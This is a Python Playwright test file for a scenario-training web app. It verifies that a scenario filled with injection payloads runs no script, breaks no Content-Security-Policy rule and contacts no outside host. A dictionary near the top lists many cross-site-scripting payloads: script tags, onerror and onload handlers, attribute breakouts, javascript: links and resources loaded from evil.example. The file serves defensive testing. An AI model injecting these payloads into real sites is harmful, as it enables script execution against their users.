"""In Chromium: a scenario whose every field carries its own payload is played from start to
debrief with no dialog, no console error and no Content-Security-Policy violation.

The scenario (built as tests/test_csp.py builds its scenarios) has a distinct payload in
each text field, every one an attempt to run script or load something from another site;
the alert's words name the field. It is served by an app of its own, so that no other test
sees it in the catalogue.

Violations are heard two ways: a `securitypolicyviolation` listener, added by
`add_init_script` to every document before its own scripts run, reports each one through
`expose_binding`; and Chromium's console messages that mention the Content Security Policy.
Playwright evaluates init scripts and bindings through the DevTools protocol, which the
page's policy does not govern (so they run under it, and `bypass_csp` stays off); the
positive control below proves that the listener hears what the policy blocks.
"""

import re
import shutil
import threading
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from journeys import PASSWORD, carry_on, continue_step, heading, sign_in
from nu_checker import check_html
from playwright.sync_api import expect
from test_csp import FIELDS, MARKER, PLACEHOLDER_FIELDS, scenario_yaml
from werkzeug.serving import make_server

from simulator import create_app
from simulator.accounts import create_user
from simulator.db import alembic, db
from simulator.engine import fill

HERE = Path(__file__).parent
TIMEOUT_MS = 10_000  # as conftest's: the machine's two cores are shared
USERNAME = "csp-trainee"
# A distinct payload in each field; Markdown fields get no raw HTML, which the validator
# refuses (tests/test_csp.py shows that), but links, entities and quotes instead.
FIELD_PAYLOADS = {
    "title": '<script>alert("title")</script>',
    "summary": '<img src=x onerror=alert("summary")>',
    "objective": '<svg onload=alert("objective")>',
    "dimension": '<iframe src="https://evil.example/dimension"></iframe>',
    "reference-title": "<style>@import url(https://evil.example/reference-title.css);</style>",
    "reference-source": '<link rel="stylesheet" href="https://evil.example/reference-source.css">',
    "reference-url": "'onmouseover='alert(1)'",
    "detail": "[guidance](https://evil.example/detail) or javascript:alert('detail')",
    "cast": '"><img src=x onerror=alert("cast")>',
    "node-text": '&lt;script&gt;alert("node-text")&lt;/script&gt; " onmouseover="alert(1)',
    "speaker": '<script src="https://evil.example/speaker.js"></script>',
    "image-alt": "\" onerror=\"alert('image-alt')",
    "choice-text": '<button onclick=alert("choice-text")>choice</button>',
    "feedback": "{{ 7*7 }} ' onfocus='alert(\"feedback\")' autofocus x='",
    "step-text": "&#60;img src=x onerror=alert('step-text')&#62;",
    "ending-text": "<https://evil.example/ending-text> and [a link](https://evil.example/ending)",
    "outcome": '<img src="https://evil.example/outcome.png">',
    "debrief": "' onmouseover='alert(\"debrief\")' *emphasis* `code`",
}
VALUES = {
    name: f"{MARKER}{name}: {FIELD_PAYLOADS[name]}"
    if name != "reference-url"
    else f"https://example.org/{MARKER}{name}{FIELD_PAYLOADS[name]}"
    for name in FIELDS
}
# In the browser the listener calls the binding; a violation's own words follow.
LISTEN_FOR_VIOLATIONS = """
document.addEventListener("securitypolicyviolation", (event) => {
  window.reportViolation(
    `${event.effectiveDirective} blocked ${event.blockedURI || "inline"} ` +
      `at ${event.sourceFile}:${event.lineNumber} (${event.sample})`
  );
}, true);
"""
# Anything that could run or embed, found in the live document after htmx has swapped.
FIND_ACTIVE_CONTENT = """
() => [...document.querySelectorAll("*")].flatMap((element) => [
  ...[...element.attributes]
    .filter((a) => a.name.startsWith("on") || /^\\s*javascript:/i.test(a.value))
    .map((a) => `${element.tagName} ${a.name}=${a.value}`),
  ...(element.matches("script:not([src]), iframe, object, embed, style, base")
    ? [`a ${element.tagName} element`] : []),
])
"""


def shown(name, cast=VALUES["cast"]):
    """Return how a field reads on the page, its placeholder filled from the cast."""
    if name in PLACEHOLDER_FIELDS:
        return fill(f"{VALUES[name]} / {{victim}}", {"victim": cast})
    return VALUES[name]


def run_apart(work):
    """Run `work` off Playwright's thread (see conftest's `trainee`)."""
    with ThreadPoolExecutor(max_workers=1) as pool:
        return pool.submit(work).result()


class PageRecorder:
    """WSGI middleware keeping each full HTML page sent, for the Nu HTML Checker."""

    def __init__(self, app):
        self.app = app
        self.pages = {}
        self.lock = threading.Lock()

    def __call__(self, environ, start_response):
        """Pass the request on, keeping the body of a whole HTML page."""
        kept = {}

        def starting(status, headers, exc_info=None):
            kept["status"] = status.split()[0]
            kept["type"] = dict((k.lower(), v) for k, v in headers).get("content-type", "")
            return start_response(status, headers, exc_info)

        response = self.app(environ, starting)
        try:
            body = b"".join(response)
        finally:
            if hasattr(response, "close"):
                response.close()
        if kept["type"].startswith("text/html") and environ.get("HTTP_HX_REQUEST") != "true":
            key = f"{environ['REQUEST_METHOD']} {environ.get('PATH_INFO', '')} -> {kept['status']}"
            with self.lock:
                self.pages.setdefault(key, body.decode("utf-8"))
        return [body]


@pytest.fixture(scope="module")
def payload_site(tmp_path_factory):
    """Serve an app offering only the payload scenario, with one trainee; yield its address
    and the pages it sends."""
    root = tmp_path_factory.mktemp("csp")
    folder = root / "scenarios"
    folder.mkdir()
    (folder / "payload.yaml").write_text(scenario_yaml(VALUES), encoding="utf-8")
    shutil.copyfile(HERE / "scenarios" / "door.png", folder / "door.png")
    app = create_app(
        {
            "TESTING": True,
            "SECRET_KEY": "browser-csp-tests",
            "DATABASE_URL": f"sqlite:///{root / 'simulator.sqlite'}",
            "SCENARIOS_DIR": str(folder),
            "SESSION_COOKIE_SECURE": False,
        }
    )

    def prepare():
        with app.app_context():
            alembic.upgrade()
            create_user(USERNAME, PASSWORD, "trainee")
        loaded = app.test_cli_runner().invoke(args=["scenarios", "load"])
        assert loaded.exit_code == 0 and "1 published" in loaded.output, loaded.output

    run_apart(prepare)
    recorder = PageRecorder(app.wsgi_app)
    app.wsgi_app = recorder
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", recorder
    server.shutdown()
    thread.join()
    server.server_close()

    def dispose():
        with app.app_context():
            for engine in db.engines.values():
                engine.dispose()

    run_apart(dispose)


class Watch:
    """A page that records, by kind, each dialog, console error, script error, violation of
    the policy (from the listener, and from the console) and request to another site."""

    KINDS = (
        "dialogs",
        "console errors",
        "script errors",
        "violations",
        "policy messages",
        "requests elsewhere",
    )

    def __init__(self, browser, base_url):
        self.base_url = base_url
        self.heard = {kind: [] for kind in self.KINDS}
        self.context = browser.new_context(
            base_url=base_url, viewport={"width": 1024, "height": 900}
        )
        self.context.set_default_timeout(TIMEOUT_MS)
        self.context.expose_binding(
            "reportViolation", lambda _, words: self.keep("violations", words)
        )
        self.context.add_init_script(LISTEN_FOR_VIOLATIONS)
        self.page = self.context.new_page()
        self.page.on("dialog", self.dismiss)
        self.page.on("console", self.console)
        self.page.on("pageerror", lambda error: self.keep("script errors", str(error)))
        # A request the policy blocks is still reported (and then fails), so this hears
        # every attempt to reach another site, blocked or not.
        self.page.on("request", self.requested)

    def keep(self, kind, words):
        """Record something heard."""
        self.heard[kind].append(words)

    def dismiss(self, dialog):
        """Keep a dialog's words and close it."""
        self.keep("dialogs", f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def console(self, message):
        """Keep a console message about the policy, and any other console error."""
        if "Content Security Policy" in message.text:
            self.keep("policy messages", message.text)
        elif message.type == "error":
            self.keep("console errors", message.text)

    def requested(self, request):
        """Keep a request to anywhere but the app."""
        if not request.url.startswith(self.base_url):
            self.keep("requests elsewhere", request.url)

    def active_content(self):
        """Return what in the live document could run script or embed another page."""
        return self.page.evaluate(FIND_ACTIVE_CONTENT)

    def anything_heard(self):
        """Return each kind of thing heard, with what was heard, leaving out the silent."""
        return {kind: found for kind, found in self.heard.items() if found}

    def wait_for(self, kind, count):
        """Wait until `count` things of a kind are heard (violations arrive asynchronously)."""
        for _ in range(TIMEOUT_MS // 50):
            if len(self.heard[kind]) >= count:
                return
            self.page.wait_for_timeout(50)


@pytest.fixture
def watch(payload_site, browser):
    """Return a watched page on the payload scenario's app."""
    base_url, _ = payload_site
    watched = Watch(browser, base_url)
    yield watched
    watched.context.close()


def play_to_the_debrief(watch):
    """Play the scenario from the catalogue to its debrief by the passing choice; return
    the addresses shown on the way, checking the live document after each."""
    page = watch.page
    seen, active = [], []

    def look():
        seen.append(page.url)
        active.extend(f"{page.url}: {found}" for found in watch.active_content())

    sign_in(page, USERNAME)
    look()
    page.get_by_role("link", name=shown("title"), exact=True).click()
    heading(page, shown("title"))
    look()
    page.get_by_role("button", name="Start").click()
    expect(page).to_have_url(re.compile(r"/attempts/\d+$"))
    expect(page.get_by_role("img", name=shown("image-alt"))).to_be_visible()
    look()
    page.get_by_label(shown("choice-text"), exact=True).check()
    page.get_by_label("Why did you choose this? (optional)").fill("She is at risk.")
    page.get_by_role("button", name="Continue", exact=True).click()
    heading(page, "Feedback on your decision")
    expect(page.get_by_text(shown("reference-title")).first).to_be_visible()
    look()
    carry_on(page)
    expect(page.get_by_text(f"{MARKER}step-text:")).to_be_visible()
    look()
    continue_step(page)
    expect(page).to_have_url(re.compile(r"/attempts/\d+/debrief$"))
    heading(page, shown("outcome"))
    look()
    return seen, active


def test_a_scenario_full_of_payloads_runs_nothing(watch, payload_site):
    """Played from start to debrief, and each page loaded again whole, the payload scenario
    opens no dialog, logs no error, trips no policy, asks nothing of another site, and
    leaves nothing active in the page; every page sent is valid HTML."""
    seen, active = play_to_the_debrief(watch)
    for url in dict.fromkeys(seen):
        watch.page.goto(url)
        active.extend(f"{url} (reloaded): {found}" for found in watch.active_content())
    watch.page.wait_for_timeout(200)  # let any late report arrive
    assert watch.anything_heard() == {}
    assert not active, "\n".join(active)
    _, recorder = payload_site
    assert len(recorder.pages) >= 6, sorted(recorder.pages)
    problems = check_html(recorder.pages)
    assert not problems, "\n".join(problems)


def test_the_listeners_hear_what_the_policy_blocks(watch):
    """A positive control: an inline script, a style attribute and a stylesheet from
    elsewhere, added to a page, are each heard as violations by the listener and in the
    console; the inline script does not run; the blocked stylesheet is heard as a request
    elsewhere; and an alert is heard as a dialog."""
    page = watch.page
    page.goto("/sign-in")
    page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.inlineRan = true";
          document.body.append(script);
          document.body.setAttribute("style", "color: red");
          const sheet = document.createElement("link");
          sheet.rel = "stylesheet";
          sheet.href = "https://evil.example/x.css";
          document.head.append(sheet);
          setTimeout(() => alert("control"));
        }"""
    )
    watch.wait_for("violations", 3)
    watch.wait_for("policy messages", 3)
    assert page.evaluate("() => window.inlineRan") is None
    directives = [words.split()[0] for words in watch.heard["violations"]]
    assert sorted(directives) == ["script-src-elem", "style-src-attr", "style-src-elem"]
    assert len(watch.heard["policy messages"]) == 3
    assert watch.heard["dialogs"] == ["alert: control"]
    assert watch.heard["requests elsewhere"] == ["https://evil.example/x.css"]
